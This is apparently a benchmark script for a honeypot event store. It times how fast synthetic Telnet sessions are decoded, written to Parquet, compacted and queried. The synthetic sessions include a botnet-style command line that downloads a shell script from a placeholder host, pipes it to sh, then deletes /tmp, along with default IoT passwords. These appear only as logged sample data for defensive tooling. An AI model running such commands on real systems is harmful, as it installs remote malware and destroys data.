# SPDX-License-Identifier: Apache-2.0
"""How many events per second one process stores, what they cost, and how long report tables take.

    python benchmarks/ingest.py [--events 1000000] [--days 3]

The way of the hub: MessagePack batches → Structs → Arrow → Parquet segments with their manifest, fsynced;
then compaction with the rollups, and the usual questions on raw events and on rollups. Decoding and
storing run with the garbage collector as Python has it, as the hub has it, and off. At the end a tenth of
the events goes through a whole hub: from the bus, where they lie durably, into event store and catalogue.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import gc
import random
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import uvloop
from figures import Figure, show, tell

from mead.bus.client import Bus
from mead.bus.publisher import Publisher, PublisherSettings
from mead.bus.server import NatsServer
from mead.clock import FakeClock
from mead.deck.hub import Hub
from mead.deck.layout import Layout
from mead.deck.resources import quiet_collector
from mead.deck.settings import Settings
from mead.model import event as model
from mead.model.codec import decode_batch, encode_batch
from mead.model.event import Event
from mead.store.events import EventStore
from mead.store.settings import StoreSettings
from mead.store.stats import stats

__all__ = ["arguments", "run"]

_INGEST_RATE = 50_000
_QUESTION_SECONDS = 10.0
_QUESTION_EVENTS = 100_000_000
"""The design's ceiling for a question is meant for so many."""
START = datetime(2026, 3, 1, tzinfo=UTC)
BATCH = 500
COMMIT = 50_000


def session(dice: random.Random, time_: datetime, number: int) -> list[Event]:
    """A Telnet session as loaders make it: seven events."""
    peer = {
        "sensor": f"sensor-{number % 20}",
        "session": f"{number:016x}",
        "src": f"203.{int(dice.paretovariate(0.6)) % 256}.{dice.randrange(256)}.{dice.randrange(64)}",
        "src_port": dice.randrange(1024, 65536),
        "dst": "198.51.100.9",
        "dst_port": dice.choice([23, 2323, 22]),
        "transport": "tcp",
        "service": "telnet",
    }
    url = f"http://203.0.113.{number % 200}/bot.{number % 9}.sh"
    login = {"username": "root", "password": dice.choice(["root", "admin", "xc3511"]), "method": "password"}
    return [
        model.SessionOpen(time=time_, **peer),
        model.LoginAttempt(time=time_ + timedelta(seconds=1), success=False, **login, **peer),
        model.LoginAttempt(time=time_ + timedelta(seconds=2), success=True, **login, **peer),
        model.CommandInput(time=time_ + timedelta(seconds=3), command="enable; system; shell; sh", **peer),
        model.CommandInput(
            time=time_ + timedelta(seconds=4), command=f"cd /tmp; wget {url} -O- | sh; rm -rf /tmp/*", **peer
        ),
        model.OfferSeen(
            time=time_ + timedelta(seconds=4), offer=f"{number:016x}", url=url, tool="wget", **peer
        ),
        model.SessionClose(
            time=time_ + timedelta(seconds=9), reason="peer", duration_ms=9000, bytes_in=321, **peer
        ),
    ]


def messages(events: int, days: int) -> Iterator[bytes]:
    dice = random.Random(1)
    count, batch = 0, []
    while count < events:
        moment = START + timedelta(days=days * count / events)
        made = session(dice, moment, count)
        batch += made
        count += len(made)
        if len(batch) >= BATCH:
            yield encode_batch(batch)
            batch = []
    yield encode_batch(batch)


def measured(what: str, events: int, work: Callable[[], object], ceiling: float | None = None) -> Figure:
    wall, cpu = time.perf_counter(), time.process_time()
    work()
    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    note = f"{events:,} events, {cpu * 1e6 / events:.1f} CPU-s per million"
    return tell(Figure(what, events / wall, "events/s", ceiling, note=note))


def ingest(directory: Path, batches: list[bytes], settings: StoreSettings, clock: FakeClock) -> EventStore:
    store = EventStore.open(directory, settings, clock=clock)
    for sequence, data in enumerate(batches, 1):
        store.append("bench", sequence, decode_batch(data))
        if store.pending_events >= COMMIT:
            store.commit()
    store.commit()
    return store


QUESTIONS = {
    "top ports of the last 24 h": "SELECT dst_port, sum(n) FROM "
    "(SELECT dst_port, {events} AS n FROM {hourly} "
    "WHERE {hour} >= (SELECT max({hour}) FROM {hourly}) - INTERVAL 24 HOURS) "
    "GROUP BY 1 ORDER BY 2 DESC LIMIT 10",
    "top sources of all days": "SELECT src, sum({events}) FROM {source_day} "
    "GROUP BY 1 ORDER BY 2 DESC LIMIT 10",
    "distinct sources per day": "SELECT {day}, count(DISTINCT src) FROM {source_day} GROUP BY 1",
}
RAW = {"hourly": "events", "source_day": "events", "events": "1", "hour": "time", "day": "CAST(time AS DATE)"}
ROLLED = {"hourly": "hourly", "source_day": "source_day", "events": "events", "hour": "hour", "day": "day"}


def ask(store: EventStore, label: str, events: int) -> list[Figure]:
    """The slowest of the usual questions, and all of them by name."""
    questions = {
        f"{what} ({kind})": query.format(**names)
        for what, query in QUESTIONS.items()
        for kind, names in (("events", RAW), ("rollup", ROLLED))
    }
    questions["attacks per day (rollup)"] = (
        "SELECT CAST(first_time AS DATE), count(*) FROM attacks GROUP BY 1"
    )
    questions["one source, all days (events)"] = (
        "SELECT count(*), max(command) FROM events WHERE src = '203.1.17.33'"
    )
    taken: dict[str, float] = {}
    with contextlib.closing(store.connect()) as connection:
        for what, query in questions.items():
            taken[what] = seconds(lambda query=query: connection.execute(query).fetchall())
    taken["mead stats"] = seconds(lambda: stats(store.snapshot()))
    taken["newest 50 of a --where"] = seconds(
        lambda: list(store.select("username = 'root' and success", limit=50, newest_first=True))
    )
    slowest = max(taken, key=lambda what: taken[what])
    note = f"{slowest}; the others " + ", ".join(
        f"{what} {took * 1000:.0f} ms" for what, took in taken.items() if what != slowest
    )
    what = f"slowest question over {events / 1e6:.1f} million events, {label}"
    ceiling = _QUESTION_SECONDS if events >= _QUESTION_EVENTS else None
    return [tell(Figure(what, taken[slowest], "s", ceiling, lower=True, note=note))]


def seconds(question: Callable[[], object]) -> float:
    began = time.perf_counter()
    question()
    return time.perf_counter() - began


def size_of(store: EventStore, events: int) -> str:
    segments = store.snapshot().manifest.segments
    return f"{len(segments)} segments, {sum(s.size_bytes for s in segments) / events:.1f} bytes per event"


async def through_the_hub(directory: Path, events: int) -> Figure:
    """What the hub takes off the bus, stores, projects and acknowledges."""
    settings, layout = Settings(data_dir=directory), Layout(directory)
    layout.make()
    async with NatsServer(layout.bus) as server, Bus.connect(server.credentials) as bus:
        async with Publisher(bus, "bench", PublisherSettings(memory_events=2 * events)) as publisher:
            for data in messages(events, 1):
                for event in decode_batch(data):
                    publisher.publish(event)
                await asyncio.sleep(0)
            await publisher.flush()
            published = publisher.acknowledged
        async with Hub(bus, layout, settings) as hub:
            wall, cpu = time.perf_counter(), time.process_time()
            running = asyncio.create_task(hub.run())
            while hub.stored_events < published:
                await asyncio.sleep(0.01)
            wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
            running.cancel()
            await asyncio.gather(running, return_exceptions=True)
    note = f"{published:,} events, {cpu * 1e6 / published:.1f} CPU-s per million; without bodies"
    what = "events: bus to store and catalogue, the whole hub"
    return tell(Figure(what, published / wall, "events/s", note=note))


def run(options: argparse.Namespace) -> list[Figure]:
    batches = list(messages(options.events, options.days))
    events = sum(len(decode_batch(data)) for data in batches)
    clock = FakeClock(START + timedelta(days=options.days, hours=2))
    figures: list[Figure] = []
    with tempfile.TemporaryDirectory(prefix="mead-bench-") as folder:

        def store_all(name: str) -> EventStore:
            return ingest(Path(folder) / name, batches, StoreSettings(), clock)

        figures.append(
            measured("events: msgpack to Structs", events, lambda: list(map(decode_batch, batches)))
        )
        what = "events: msgpack to Parquet, fsynced"
        figures.append(measured(what, events, lambda: store_all("gc").close(), _INGEST_RATE))
        quiet_collector()
        figures.append(measured(f"{what}, gc as in the hub", events, lambda: store_all("seldom").close()))
        gc.disable()
        figures.append(measured(f"{what}, gc off", events, lambda: store_all("events").close(), _INGEST_RATE))
        gc.enable()
        store = EventStore.open(Path(folder) / "events", StoreSettings(), clock=clock)
        raw = size_of(store, events)
        figures += ask(store, "as written", events)
        figures.append(measured("compaction with all rollups", events, store.compact))
        print(f"as written {raw}; compacted {size_of(store, events)}", file=sys.stderr)
        figures += ask(store, "compacted", events)
        store.close()
        figures.append(uvloop.run(through_the_hub(Path(folder) / "deck", options.events // 10)))
    return figures


def arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--events", type=int, default=1_000_000, help="events that are stored")
    parser.add_argument("--days", type=int, default=3, help="days that they are spread over")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    arguments(parser)
    show(run(parser.parse_args()))
